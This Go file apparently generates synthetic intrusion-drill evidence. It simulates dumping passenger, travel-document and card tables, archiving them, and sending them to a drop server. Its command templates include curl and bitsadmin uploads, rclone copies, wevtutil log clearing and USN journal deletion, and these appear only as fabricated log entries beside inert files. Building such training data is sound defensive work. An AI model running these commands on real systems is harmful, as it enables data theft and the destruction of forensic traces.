package intrusion

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/flate"
	"compress/gzip"
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"io"
	"math/rand/v2"
	"strings"
	"time"

	"github.com/contrail-ir/contrail/drill/passengers"
	"github.com/contrail-ir/contrail/drill/scene"
	"github.com/contrail-ir/contrail/drill/textwrite"
)

var tables = []string{"passenger", "travel_document", "payment_card"}

// take: the reservation database is copied into files, and the files are packed.
func (t *story) take() error {
	h := t.DB
	p, dir := t.implant[h], t.at(h)+t.Hand.Staging
	bin := `C:\Program Files\PostgreSQL\16\bin\`
	ask := func(class, command, object, sql, application string) []*scene.Entry {
		return t.Statement(t.now.Add(500*time.Millisecond), textwrite.Statement{User: t.Cast.DBA, Client: "127.0.0.1", Application: application, Class: class, Command: command, Object: object, SQL: sql})
	}
	t.rest()
	a := t.act("count", h, "T1213", "collection", "The passenger tables are looked up and counted", t.started[h])
	line := `"` + bin + `psql.exe" -U ` + t.Cast.DBA + ` -d reservations -c "SELECT count(*) FROM passenger"`
	_, ran := t.do(t.now, p, line)
	a.Note(ran...)
	a.Note(ask("READ", "SELECT", "public.passenger", "SELECT count(*) FROM passenger", "psql")...)

	t.rest()
	a = t.act("dump", h, "T1005", "collection", "Passengers, documents and cards are written to files", t.started[h], "count")
	for _, table := range tables {
		t.pause()
		file := dir + table + ".csv"
		sql := "COPY public." + table + " TO STDOUT WITH CSV HEADER"
		application := "psql"
		switch t.Hand.Dump {
		case "psql":
			line = `"` + bin + `psql.exe" -U ` + t.Cast.DBA + ` -d reservations -c "\copy ` + table + ` to ` + file + ` csv header"`
		case "pg_dump":
			line, application = `"`+bin+`pg_dump.exe" -U `+t.Cast.DBA+` -a -t `+table+` -f `+file+` reservations`, "pg_dump"
		case "copy":
			sql = "COPY public." + table + " TO '" + file + "' WITH CSV HEADER"
			line = `"` + bin + `psql.exe" -U ` + t.Cast.DBA + ` -d reservations -c "` + sql + `"`
		case "bulk":
			sql = "SELECT * FROM " + table
			line = `"` + bin + `psql.exe" -U ` + t.Cast.DBA + ` -d reservations --csv -o ` + file + ` -c "` + sql + `"`
		}
		q, ran := t.do(t.now, p, line)
		a.Note(ran...)
		a.Note(t.Create(t.now.Add(2*time.Second), q, file))
		a.Note(ask("READ", strings.Fields(sql)[0], "public."+table, sql, application)...)
	}

	t.rest()
	a = t.act("pack", h, "T1560.001", "collection", "The files are packed", "dump", t.started[h])
	name := strings.ToLower(t.Kit.RunValue)
	var program string
	switch t.Hand.Pack {
	case "7z", "rar":
		program = t.at(h) + t.Hand.Pack + ".exe"
		line = program + " " + fmt.Sprintf(t.Hand.PackFlags, t.Kit.Password) + " " + dir + name + "." + t.Hand.Pack + " " + dir + "*.csv"
	case "zip":
		line = `powershell -c Compress-Archive ` + t.Hand.PackFlags + ` -Path ` + dir + `*.csv -DestinationPath ` + dir + name + `.zip`
	case "tar":
		line = `tar ` + t.Hand.PackFlags + ` ` + dir + name + `.tar.gz -C ` + dir + ` .`
	}
	if program != "" {
		a.Note(t.Create(t.now.Add(-20*time.Second), p, program))
	}
	q, ran := t.do(t.now, p, line)
	a.Note(ran...)
	switch {
	case t.Hand.Pack == "tar":
		t.packed = []string{dir + name + ".tar.gz"}
	case t.Hand.Volume == 0:
		t.packed = []string{dir + name + "." + t.Hand.Pack}
	default:
		for i := range 2 + t.r.IntN(3) {
			volume := fmt.Sprintf("%s%s.7z.%03d", dir, name, i+1)
			if t.Hand.Pack == "rar" {
				volume = fmt.Sprintf("%s%s.part%d.rar", dir, name, i+1)
			}
			t.packed = append(t.packed, volume)
		}
	}
	for i, file := range t.packed {
		a.Note(t.Create(t.now.Add(time.Duration(1+i)*time.Second), q, file))
		t.Indicator("archive", file)
	}
	return nil
}

// send: the archives leave.
func (t *story) send() {
	h := t.DB
	p := t.implant[h]
	t.rest()
	technique := map[string]string{"rclone": "T1567.002", "curl": "T1048.002", "bits": "T1197", "implant": "T1041"}[t.Hand.Send]
	a := t.act("send", h, technique, "exfiltration", "The archives leave for the intruder's server", "pack", t.started[h])
	var marked bool
	for i, file := range t.packed {
		t.pause()
		q := p
		var ran []*scene.Entry
		switch t.Hand.Send {
		case "rclone":
			q, ran = t.do(t.now, p, t.at(h)+`rclone.exe copy `+file+` drop:`+fmt.Sprint(i)+` --transfers 8 --config `+t.at(h)+`r.conf`)
		case "curl":
			q, ran = t.do(t.now, p, `curl -k -T `+file+` https://`+t.Kit.Drop+`/u/`)
		case "bits":
			q, ran = t.do(t.now, p, `bitsadmin /transfer u`+fmt.Sprint(i)+` /upload /priority normal https://`+t.Kit.Drop+`/u/`+fmt.Sprint(i)+` `+file)
		}
		a.Note(ran...)
		out := int64(max(t.Hand.Volume, 700))*1_000_000 - t.r.Int64N(90_000_000)
		seen := t.call(t.now.Add(time.Second), q, t.Kit.Drop, t.Kit.DropIP, out, out/300)
		a.Note(seen...)
		if !marked {
			t.start("exfiltration", seen[1])
			marked = true
		}
	}
}

// cover: what the hand does about traces.
func (t *story) cover() {
	h := t.DB
	p := t.implant[h]
	dir := t.at(h) + t.Hand.Staging
	if t.Hand.Cover == "none" {
		return
	}
	t.rest()
	switch t.Hand.Cover {
	case "del":
		a := t.act("delete", h, "T1070.004", "defense-evasion", "Dumps and packed data are deleted", t.started[h])
		_, ran := t.do(t.now, p, `cmd /c del /f /q `+dir+`*.dmp `+dir+`*.csv`)
		a.Note(ran...)
	case "clear":
		a := t.act("clear", h, "T1070.001", "defense-evasion", "The PowerShell log is cleared", t.started[h])
		_, ran := t.do(t.now, p, `wevtutil cl "Windows PowerShell"`)
		a.Note(ran...)
		a.Note(t.Wipe(t.now.Add(time.Second), p.Session, h, scene.ChannelClassicPS))
	case "wipe":
		a := t.act("wipe", h, "T1070.004", "defense-evasion", "The change journal is deleted", t.started[h])
		_, ran := t.do(t.now, p, `fsutil usn deletejournal /d C:`)
		a.Note(ran...)
	}
}

// callHome lets every implant call until the days end.
func (t *story) callHome() {
	end := t.At(t.Days, 0, 0, 0)
	for i, h := range t.order {
		p := t.implant[h]
		r := t.Random("beacon/" + t.Prefix + h.Name)
		at := p.Begun.Add(30*time.Second + time.Duration(r.IntN(60))*time.Second)
		t.now = at
		a := t.act("beacon-"+h.Name, h, "T1071.001", "command-and-control", "The implant calls its server at a steady pace", t.started[h])
		for n := 0; at.Before(end); n++ {
			if n%9 == 0 { // the answer is remembered for a while
				a.Note(t.ask(at, p, t.Kit.Control, t.Kit.ControlIP))
			}
			seen := t.talk(at.Add(25*time.Millisecond), p, t.Kit.Control, t.Kit.ControlIP, t.Hand.BeaconBytes+r.Int64N(40), t.Hand.BeaconBytes/3+r.Int64N(30))
			a.Note(seen)
			if i == 0 && n == 5 {
				t.start("command-and-control", seen)
			}
			at = at.Add(time.Duration(float64(t.Hand.Beacon) * (1 + t.Hand.Jitter*(2*r.Float64()-1))))
		}
	}
}

// leaveFiles puts onto the disks what was collected from them: the implant, and what the intruder packed.
func (t *story) leaveFiles() error {
	for _, h := range t.order {
		content := t.Content(t.Kit.File)
		if err := t.Place(h, t.implantPath(h), "the implant's file: inert", t.Prefix+t.started[h], func(w io.Writer) error { _, err := w.Write(content); return err }); err != nil {
			return err
		}
	}
	g := passengers.New(t.Data)
	write := map[string]func(io.Writer) error{"zip": func(w io.Writer) error { return zipped(w, g, t.Attack.Persons) }, "tar": func(w io.Writer) error { return tarred(w, g, t.Attack.Persons) }}[t.Hand.Pack]
	size := 0 // of what cannot be opened
	if write == nil {
		var err error
		if size, err = packedSize(passengers.New(t.Data), t.Attack.Persons); err != nil {
			return err
		}
	}
	for i, file := range t.packed {
		fill := write
		if fill == nil {
			share := (size + len(t.packed) - 1) / len(t.packed) // the last volume holds the rest
			fill = sealed(t.Hand.Pack, t.Data+uint64(i), min(share, size-i*share))
		}
		if err := t.Place(t.DB, file, "packed passenger data", t.Prefix+"pack", fill); err != nil {
			return err
		}
	}
	if t.Hand.Cover != "del" {
		// What was packed stays beside the archive where the intruder did not delete it.
		if err := t.Place(t.DB, t.at(t.DB)+t.Hand.Staging+"passenger.csv", "passenger data", t.Prefix+"dump", func(w io.Writer) error { return passengers.New(t.Data).Write(w, "csv", t.Attack.Persons) }); err != nil {
			return err
		}
	}
	// The records left whether or not a file that holds them was collected.
	all := passengers.New(t.Data)
	if err := all.Write(io.Discard, "csv", t.Attack.Persons); err != nil {
		return err
	}
	t.Scene.Persons += all.Truth().Persons
	return nil
}

// members are the files of an archive: one set of persons, told in four forms.
var members = []struct{ name, form string }{{"passenger.csv", "csv"}, {"pnr.edi", "pnrgov"}, {"documents.txt", "mrz"}}

func form(g *passengers.Generator, i, n int) (*bytes.Buffer, error) {
	var b bytes.Buffer
	// The forms share out the persons, so that each is in one place.
	share := n / len(members)
	if i == 0 {
		share = n - share*(len(members)-1)
	}
	err := g.Write(&b, members[i].form, share)
	return &b, err
}

var archived = time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC)

func zipped(w io.Writer, g *passengers.Generator, n int) error {
	z := zip.NewWriter(w)
	for i, m := range members {
		b, err := form(g, i, n)
		if err != nil {
			return err
		}
		f, err := z.CreateHeader(&zip.FileHeader{Name: m.name, Method: zip.Deflate, Modified: archived})
		if err != nil {
			return err
		}
		if _, err := b.WriteTo(f); err != nil {
			return err
		}
	}
	return z.Close()
}

func tarred(w io.Writer, g *passengers.Generator, n int) error {
	c := gzip.NewWriter(w)
	tw := tar.NewWriter(c)
	for i, m := range members {
		b, err := form(g, i, n)
		if err != nil {
			return err
		}
		if err := tw.WriteHeader(&tar.Header{Name: m.name, Mode: 0o644, Size: int64(b.Len()), ModTime: archived}); err != nil {
			return err
		}
		if _, err := b.WriteTo(tw); err != nil {
			return err
		}
	}
	if err := tw.Close(); err != nil {
		return err
	}
	return c.Close()
}

// packedSize is how many bytes the dumped rows come to when they are packed.
func packedSize(g *passengers.Generator, n int) (int, error) {
	var size counted
	c, err := flate.NewWriter(&size, flate.BestCompression)
	if err != nil {
		return 0, err
	}
	if err := errors.Join(g.Write(c, "csv", n), c.Close()); err != nil {
		return 0, err
	}
	return int(size), nil
}

type counted int

func (n *counted) Write(b []byte) (int, error) {
	*n += counted(len(b))
	return len(b), nil
}

// sealed is a volume that cannot be opened: the beginning of the format, of RAR the header of encryption, and noise up to the size.
func sealed(kind string, seed uint64, size int) func(io.Writer) error {
	return func(w io.Writer) error {
		r := rand.New(rand.NewPCG(seed, 0x7365616c))
		b := []byte("7z\xbc\xaf\x27\x1c\x00\x04")
		if kind == "rar" { // the header that says that all others are encrypted: kind 4, of version 0, with 1<<15 rounds and a salt
			h := []byte{21, 4, 0, 0, 0, 15}
			for range 16 {
				h = append(h, byte(r.Uint32()))
			}
			b = append(binary.LittleEndian.AppendUint32([]byte("Rar!\x1a\x07\x01\x00"), crc32.ChecksumIEEE(h)), h...)
		}
		for len(b) < size {
			b = append(b, byte(r.Uint32()))
		}
		_, err := w.Write(b)
		return err
	}
}
